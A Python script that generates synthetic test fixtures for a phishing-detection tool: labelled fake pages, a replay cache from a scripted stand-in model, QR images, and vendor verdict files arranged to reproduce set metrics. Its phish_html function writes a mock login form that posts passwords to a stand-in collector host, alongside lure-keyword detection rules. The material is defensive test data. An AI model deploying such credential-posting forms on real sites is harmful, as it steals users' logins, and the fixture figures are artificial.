#!/usr/bin/env python3
"""Regenerate the bundled fixtures deterministically.

Produces:
  fixtures/dataset40/        40-record desk-scale dataset (20 legit, 20 phish)
  fixtures/replay/           response cache covering all agents over dataset40
  fixtures/qr/               QR images used by intake tests
  fixtures/vendors/          2,126-record manifest + vendor verdict reports
                             sized so the strongest vendor's F1 prints 0.510

Run from the repository root: python3 scripts/make_fixtures.py
"""

from __future__ import annotations

import io
import json

import sys
from pathlib import Path

import qrcode
from PIL import Image, ImageDraw

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "src"))

from phishscan.agents import RecordingBackend, ScriptedBackend, build_prompt  # noqa: E402
from phishscan.agents.backends import ScriptedRule  # noqa: E402
from phishscan.core import AgentKind, Label, WebResource  # noqa: E402
from phishscan.datastore import load_manifest  # noqa: E402

FIXTURES = REPO / "fixtures"

# Brand-free deterministic vocabulary for synthetic hosts.
LEGIT_WORDS = [
    "museum", "library", "garden", "recipe", "weather", "transit", "atlas",
    "cinema", "journal", "campus", "gallery", "harbor", "market", "studio",
    "archive", "forum",
]
PHISH_WORDS = [
    "account", "wallet", "billing", "support", "service", "portal", "mail",
    "bank", "pay", "cloud", "docs", "invoice",
]
MARKERS = ["login", "verify", "secure", "update", "confirm"]


def tiny_png(color: tuple[int, int, int], text: str) -> bytes:
    img = Image.new("RGB", (96, 64), color)
    draw = ImageDraw.Draw(img)
    draw.text((4, 26), text[:16], fill=(255, 255, 255))
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    return buf.getvalue()


def legit_html(i: int, with_password: bool) -> str:
    word = LEGIT_WORDS[i % len(LEGIT_WORDS)]
    body = f"<h1>The {word} project, branch {i}</h1><p>Opening hours, collections and news.</p>"
    if with_password:
        body += (
            '<form action="/session" method="post">'
            '<input name="user"><input type="password" name="pass"></form>'
        )
    return f"<html><head><title>{word} site {i}</title></head><body>{body}</body></html>\n"


def phish_html(i: int, with_password: bool) -> str:
    word = PHISH_WORDS[i % len(PHISH_WORDS)]
    body = f"<h1>Urgent {word} notice #{i}</h1><p>Your access will be suspended.</p>"
    if with_password:
        body += (
            '<form action="http://collect.example/steal" method="post">'
            '<input name="email"><input type="password" name="pass">'
            "<button>Sign in now</button></form>"
        )
    return f"<html><head><title>{word} alert {i}</title></head><body>{body}</body></html>\n"


def make_dataset40() -> Path:
    root = FIXTURES / "dataset40"
    art = root / "artifacts"
    art.mkdir(parents=True, exist_ok=True)
    rows = []

    # 20 legitimate: 4 carry a marker word in the URL (scripted false
    # positives) and 2 carry password forms in their HTML.
    for i in range(20):
        word = LEGIT_WORDS[i % len(LEGIT_WORDS)]
        if i < 4:
            url = f"https://{word}{i}.example.org/{MARKERS[i % len(MARKERS)]}"
        else:
            url = f"https://{word}{i}.example.org/home"
        shot = f"artifacts/legit_{i:02d}.png"
        page = f"artifacts/legit_{i:02d}.html"
        (root / shot).write_bytes(tiny_png((40, 90 + i * 5, 60), f"{word}{i}"))
        (root / page).write_text(legit_html(i, with_password=i < 2), encoding="utf-8")
        rows.append((url, "legitimate", shot, page))

    # 20 phishing: 14 carry marker words in the URL, 6 are URL-clean
    # (scripted false negatives at stage 1); 10 carry password forms.
    for i in range(20):
        word = PHISH_WORDS[i % len(PHISH_WORDS)]
        if i < 14:
            marker = MARKERS[i % len(MARKERS)]
            url = f"http://{word}-{marker}{i}.example-portal.net/{marker}"
        else:
            url = f"http://{word}{i}.example-portal.net/index"
        shot = f"artifacts/phish_{i:02d}.png"
        page = f"artifacts/phish_{i:02d}.html"
        (root / shot).write_bytes(tiny_png((150 + i * 4, 40, 40), f"{word}{i}"))
        (root / page).write_text(phish_html(i, with_password=i < 10), encoding="utf-8")
        rows.append((url, "phishing", shot, page))

    manifest = root / "manifest.csv"
    lines = ["url,label,screenshot_path,html_path"]
    lines += [",".join(row) for row in rows]
    manifest.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return manifest


def response_generator() -> ScriptedBackend:
    """Deterministic stand-in for a live model, used to seed the replay cache."""
    rules = [
        ScriptedRule("login", Label.PHISHING, "Credential-themed path segment on an unfamiliar host."),
        ScriptedRule("verify", Label.PHISHING, "Verification lure wording in the URL."),
        ScriptedRule("secure", Label.PHISHING, "Reassurance keyword typical of spoofed portals."),
        ScriptedRule("update", Label.PHISHING, "Urgency keyword commonly used in lures."),
        ScriptedRule("confirm", Label.PHISHING, "Confirmation lure wording in the URL."),
        ScriptedRule(
            "action=\"http://collect",
            Label.PHISHING,
            "Form posts credentials to an unrelated plain-http collector.",
        ),
        ScriptedRule(
            "will be suspended",
            Label.PHISHING,
            "Pressure language threatening account suspension.",
        ),
    ]
    return ScriptedBackend(
        rules=rules,
        default_label=Label.LEGITIMATE,
        default_reasoning="No phishing indicators in the supplied content.",
        model_id="gemini-1.5-flash",
    )


def make_replay_cache(manifest_path: Path) -> None:
    out = FIXTURES / "replay"
    out.mkdir(parents=True, exist_ok=True)
    cache = out / "cache-gemini-1.5-flash.jsonl"
    if cache.exists():
        cache.unlink()
    backend = RecordingBackend(response_generator(), cache)
    manifest = load_manifest(manifest_path)
    for record in manifest.records:
        resource = WebResource(
            url=record.url,
            screenshot=record.screenshot_path.read_bytes(),
            html=record.html_path.read_text(encoding="utf-8"),
        )
        for kind in (AgentKind.URL, AgentKind.SCREENSHOT, AgentKind.HTML):
            backend.complete(build_prompt(kind, resource))


def make_qr(manifest_path: Path) -> None:
    out = FIXTURES / "qr"
    out.mkdir(parents=True, exist_ok=True)
    manifest = load_manifest(manifest_path)
    first_legit = next(r for r in manifest.records if r.true_label is Label.LEGITIMATE)
    first_phish = next(r for r in manifest.records if r.true_label is Label.PHISHING)
    targets = {
        "legit-url.png": first_legit.url,
        "phish-url.png": first_phish.url,
        "example-com.png": "https://example.com",
        "not-a-url.png": "hello world",
    }
    for name, payload in targets.items():
        qrcode.make(payload).get_image().save(out / name)
    (out / "payloads.json").write_text(
        json.dumps(targets, indent=2, sort_keys=True) + "\n", encoding="utf-8"
    )


def make_vendor_fixture() -> None:
    """Dataset mirroring the published evaluation composition (1,110
    legitimate / 1,016 phishing) with vendor verdicts arranged so the
    strongest vendor's row reproduces the published Lionic arithmetic:
    precision 1.000, recall 0.342, F1 printing 0.510."""
    root = FIXTURES / "vendors"
    art = root / "artifacts"
    reports = root / "reports"
    art.mkdir(parents=True, exist_ok=True)
    reports.mkdir(parents=True, exist_ok=True)

    shared_png = art / "shared.png"
    shared_html = art / "shared.html"
    shared_png.write_bytes(tiny_png((70, 70, 70), "placeholder"))
    shared_html.write_text("<html><body>placeholder artifact</body></html>\n", encoding="utf-8")

    legit_urls = [f"https://site-{i:04d}.example.org/" for i in range(1110)]
    phish_urls = [f"http://lure-{i:04d}.example.net/login" for i in range(1016)]

    lines = ["url,label,screenshot_path,html_path"]
    for url in legit_urls:
        lines.append(f"{url},legitimate,artifacts/shared.png,artifacts/shared.html")
    for url in phish_urls:
        lines.append(f"{url},phishing,artifacts/shared.png,artifacts/shared.html")
    (root / "manifest.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")

    # Lionic: 347 phishing caught, 2 phishing unrated, everything else
    # rated clean. recall = 347/1014 = 0.342, f1 = 0.510 at 3 decimals.
    verdicts = {}
    for url in phish_urls[:347]:
        verdicts[url] = "phishing-like"
    for url in phish_urls[347:349]:
        verdicts[url] = "unrated"
    for url in phish_urls[349:]:
        verdicts[url] = "clean-like"
    for url in legit_urls:
        verdicts[url] = "clean-like"
    (reports / "lionic.json").write_text(
        json.dumps({"vendor": "Lionic", "verdicts": verdicts}, indent=1, sort_keys=True) + "\n",
        encoding="utf-8",
    )

    # BitSentry: broader recall, a handful of false positives.
    verdicts = {}
    for i, url in enumerate(phish_urls):
        verdicts[url] = "phishing-like" if i % 2 == 0 else "clean-like"
    for i, url in enumerate(legit_urls):
        verdicts[url] = "phishing-like" if i % 111 == 0 else "clean-like"
    (reports / "bitsentry.json").write_text(
        json.dumps({"vendor": "BitSentry", "verdicts": verdicts}, indent=1, sort_keys=True) + "\n",
        encoding="utf-8",
    )

    # NullWatch: rates only a sliver of the dataset.
    verdicts = {}
    for url in phish_urls[:50]:
        verdicts[url] = "phishing-like"
    for url in legit_urls[:500]:
        verdicts[url] = "clean-like"
    (reports / "nullwatch.json").write_text(
        json.dumps({"vendor": "NullWatch", "verdicts": verdicts}, indent=1, sort_keys=True) + "\n",
        encoding="utf-8",
    )


def main() -> None:
    FIXTURES.mkdir(exist_ok=True)
    manifest = make_dataset40()
    make_replay_cache(manifest)
    make_qr(manifest)
    make_vendor_fixture()
    print(f"fixtures regenerated under {FIXTURES}")


if __name__ == "__main__":
    main()
